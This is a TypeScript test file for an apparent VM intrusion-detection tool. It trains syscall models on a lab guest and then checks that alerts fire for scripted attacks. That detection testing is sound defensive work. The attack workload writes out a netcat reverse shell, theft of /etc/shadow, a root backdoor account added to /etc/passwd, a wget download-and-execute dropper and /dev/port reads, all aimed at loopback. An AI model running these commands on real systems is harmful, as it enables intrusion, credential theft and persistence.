import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { GATE_FUNCTION, startGatedLabVm, type GatedLabVm } from './_gated-lab-vm.js';
import { learnVmModels, type ModelDirectorySummary } from './model-learning.js';
import type { WatchAlert } from './model-monitor.js';
import { replayAlerts } from './trace-scoring.js';
import { watchVm, type WatchOptions, type WatchUpdate } from './watch-service.js';

// One boot. Before capture the guest sets up what a small Linux box has: /etc/passwd and
// /etc/shadow, a web root served by busybox httpd on loopback (the "small service"), and a
// payload script there for the download-and-execute chain. Each phase waits on a gate (a
// second serial port, a unix socket on the host) so that capture is on before it starts; the
// gate is the shell's own `read`, so it starts no process of its own.
const SETUP = `${GATE_FUNCTION}
printf 'root:x:0:0:root:/root:/bin/sh\\nwww:x:33:33:www:/www:/bin/false\\n' > /etc/passwd
printf 'root:$6$salt$hash:19000:0:99999:7:::\\nwww:*:19000:0:99999:7:::\\n' > /etc/shadow
chmod 600 /etc/shadow
mkdir -p /www
echo '<html>hello</html>' > /www/index.html
printf '#!/bin/sh\\necho pwned > /tmp/pwned\\nid >> /tmp/pwned\\n' > /www/payload.sh
httpd -p 127.0.0.1:8080 -h /www
printf 'i=$((i+0))\\nls /www > /dev/null\\nwc -l /etc/passwd > /dev/null\\n' > /root/job.sh`;
// Normal activity: shell scripts, file activity, HTTP requests to the service with wget and
// with nc as a client.
const NORMAL = `n=0
while [ $n -lt 12 ]; do
  n=$((n+1))
  ls / > /dev/null
  cat /proc/uptime > /dev/null
  echo "hello $n" > /tmp/f
  cat /tmp/f > /dev/null
  grep root /etc/passwd > /dev/null
  wget -q -O /tmp/page http://127.0.0.1:8080/index.html
  printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' | nc 127.0.0.1 8080 > /dev/null
  sh /root/job.sh
done`;
const ATTACKS = {
  // A reverse shell: nc connects out and hands the connection to sh (-e).
  reverseShell: `printf 'id\\nls /\\nexit\\n' > /tmp/cmds
(nc -l -p 4444 < /tmp/cmds > /tmp/out &)
sleep 1
nc 127.0.0.1 4444 -e /bin/sh`,
  // Credential theft and a backdoor account.
  shadow: `cat /etc/shadow > /tmp/loot
echo 'evil:x:0:0::/root:/bin/sh' >> /etc/passwd`,
  // Download and execute.
  dropper: `wget -q -O /tmp/p.sh http://127.0.0.1:8080/payload.sh
chmod 755 /tmp/p.sh
/tmp/p.sh`,
  // Port I/O from user space through /dev/port: the CMOS/RTC index and data ports.
  devPort: `dd if=/dev/port of=/dev/null bs=1 skip=112 count=2 2>/dev/null`,
} as const;
type Attack = keyof typeof ATTACKS;
const ATTACK_NAMES = Object.keys(ATTACKS) as Attack[];

const WORKLOAD = [
  SETUP,
  'echo WATCH-READY',
  // Learning sees three rounds: enough processes per program for models of their own and folds
  // to calibrate their thresholds on.
  ...['gate', NORMAL, NORMAL, NORMAL, 'echo LEARN-DONE'],
  ...['gate', NORMAL, 'echo NORMAL-DONE'],
  ...ATTACK_NAMES.flatMap((name) => ['gate', ATTACKS[name], `echo ${name.toUpperCase()}-DONE`]),
  'gate',
].join('\n');

const json = (value: unknown): unknown =>
  JSON.parse(JSON.stringify(value, (_k, v: unknown) => (typeof v === 'bigint' ? `${v}n` : v)));
const describeAlert = (alert: WatchAlert): string =>
  `${alert.reason} ${alert.process?.comm ?? '-'}[${alert.process?.pid ?? '-'}] ${alert.process?.programKey ?? ''} ` +
  `score ${alert.score.toPrecision(4)} > ${alert.threshold?.toPrecision(4) ?? '-'}: ${alert.window.join(' ')}`;

describe('watch --learn / --model on the lab guest', { timeout: 600_000 }, () => {
  let dir = '';
  let guest: GatedLabVm | undefined;
  let models = '';
  let learned: ModelDirectorySummary | undefined;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'vmsight-detect-'));
    models = join(dir, 'models');
    guest = await startGatedLabVm({
      name: `detect-${process.pid}`,
      workload: WORKLOAD,
      ready: /^WATCH-READY/,
      directory: dir,
    });
  });

  after(async () => {
    await guest?.stop();
    if (dir !== '' && process.env['VMSIGHT_KEEP_TEST_DIR'] !== '1') {
      await rm(dir, { recursive: true, force: true });
    }
  });

  /**
   * Runs one guest phase under `run` (which must stop when the signal aborts): opens the gate once
   * capture is on, waits for the phase's marker, then stops capture.
   */
  async function phase<T>(
    marker: string,
    run: (signal: AbortSignal, onUpdate: (update: WatchUpdate) => void) => Promise<T>,
  ): Promise<T> {
    assert.ok(guest !== undefined);
    const { vm } = guest;
    const abort = new AbortController();
    let capturing = false;
    const result = run(abort.signal, (update) => {
      if (update.type === 'stats') capturing = true;
    });
    while (!capturing) await new Promise((resolve) => setTimeout(resolve, 50));
    guest.open();
    await vm.waitForSerial(new RegExp(`^${marker}-DONE`), 180_000);
    abort.abort();
    return result;
  }

  async function watchPhase(
    marker: string,
    options: Pick<WatchOptions, 'record'> = {},
  ): Promise<WatchAlert[]> {
    assert.ok(guest !== undefined);
    const name = guest.vm.name;
    return phase(marker, async (signal, onUpdate) => {
      const alerts: WatchAlert[] = [];
      for await (const update of watchVm({ vm: name, model: models, signal, ...options })) {
        onUpdate(update);
        if (update.type === 'alert') alerts.push(update);
        if (update.type === 'stats' && update.final) assert.equal(update.sensor.dropped, 0);
      }
      return alerts;
    });
  }

  it('learns per-program system-call models and an I/O model from a normal workload', async (t) => {
    assert.ok(guest !== undefined);
    const name = guest.vm.name;
    learned = await phase('LEARN', (signal, onUpdate) =>
      learnVmModels({ vm: name, output: models, signal, onUpdate }),
    );
    t.diagnostic(JSON.stringify(learned));
    for (const program of ['ls', 'cat', 'grep', 'wget', 'nc', 'httpd']) {
      assert.ok(
        learned.programs.some((key) => key === program || key.endsWith(`/${program}`)),
        `no model of its own for ${program}: ${learned.programs.join(', ')}`,
      );
    }
    assert.ok(learned.ioVocabulary > 0 && learned.ioThreshold !== undefined, 'an I/O model');
  });

  let normalAlerts: WatchAlert[] | undefined;
  it('watches a further normal run and replays it to exactly the same alerts', async (t) => {
    assert.ok(learned !== undefined, 'models were learned');
    const record = join(dir, 'normal.vmtrace.jsonl');
    const live = await watchPhase('NORMAL', { record });
    normalAlerts = live;
    t.diagnostic(`normal-run alerts: ${live.length}\n${live.map(describeAlert).join('\n')}`);
    const replayed: WatchAlert[] = [];
    for await (const alert of replayAlerts({ model: models, input: record })) replayed.push(alert);
    assert.deepEqual(json(replayed), json(live));
  });

  // Two things once made this flaky (docs/decisions.md 11): attribution and arguments read ~50
  // calls behind the guest through a 64 KiB pipe (watch now shrinks it to one page), and
  // thresholds of 0 for programs whose held-back runs never varied, so one reordered reply
  // alerted (a known program's own model now needs more anomalous windows than one local change
  // makes: OWN_MODEL_MIN_ANOMALOUS).
  it('raises no alert during a further normal run', () => {
    assert.equal(normalAlerts?.length, 0, 'false alarms in the normal run');
  });

  const attackAlerts = new Map<Attack, WatchAlert[]>();
  for (const attack of ATTACK_NAMES) {
    it(`alerts during the ${attack} attack and replays to exactly the same alerts`, async (t) => {
      assert.ok(learned !== undefined, 'models were learned');
      const record = join(dir, `${attack}.vmtrace.jsonl`);
      const live = await watchPhase(attack.toUpperCase(), { record });
      attackAlerts.set(attack, live);
      t.diagnostic(`${attack} alerts: ${live.length}\n${live.map(describeAlert).join('\n')}`);
      const replayed: WatchAlert[] = [];
      for await (const alert of replayAlerts({ model: models, input: record }))
        replayed.push(alert);
      assert.deepEqual(json(replayed), json(live), 'replay gives the live alerts');
      for (const [what, names] of ATTACK_PROCESSES[attack]) {
        assert.ok(live.some(names), `no alert for ${what}`);
      }
    });
  }
});

/**
 * What each attack must raise: every entry needs an alert naming that process (by comm, or the
 * program key where the comm is ambiguous) and, where given, the call that gives it away.
 */
const inWindow = (alert: WatchAlert, text: string): boolean =>
  alert.window.some((call) => call.includes(text));
const ATTACK_PROCESSES: Record<Attack, ReadonlyArray<[string, (alert: WatchAlert) => boolean]>> = {
  reverseShell: [
    [
      'nc connecting to a peer it never used',
      (a) => a.process?.comm === 'nc' && inWindow(a, ':4444'),
    ],
    // busybox nc -e connects, dup2s the socket and execs /bin/sh in the same task: the task is
    // nc until the exec and the program "/bin/sh" after it.
    ['the shell nc spawned', (a) => a.process?.programKey === '/bin/sh'],
  ],
  shadow: [
    // `cat` makes the same calls on /etc/shadow as on the files it read in training: only the
    // path tells, and the sensor must read it before this short-lived process (~30 calls) exits.
    ['cat reading /etc/shadow', (a) => a.process?.comm === 'cat' && inWindow(a, '/etc/shadow')],
    [
      'the shell appending to /etc/passwd',
      (a) => a.process?.comm === 'sh' && inWindow(a, '/etc/passwd'),
    ],
  ],
  dropper: [
    [
      'wget writing a file it never wrote',
      (a) => a.process?.comm === 'wget' && inWindow(a, '/tmp/p.sh'),
    ],
    ['chmod, a program never seen', (a) => a.process?.comm === 'chmod' && a.model === 'fallback'],
    ['the downloaded program', (a) => a.process?.comm === 'p.sh'],
  ],
  devPort: [
    [
      'dd (a program never seen) opening /dev/port',
      (a) => a.process?.comm === 'dd' && a.model === 'fallback',
    ],
    // The port reads happen inside dd's read(2), so the I/O alert names dd as well.
    [
      'ports the VM never used, read under dd',
      (a) => a.reason === 'io-new-token' && a.process?.comm === 'dd' && inWindow(a, 'pio:70:r:1'),
    ],
  ],
};
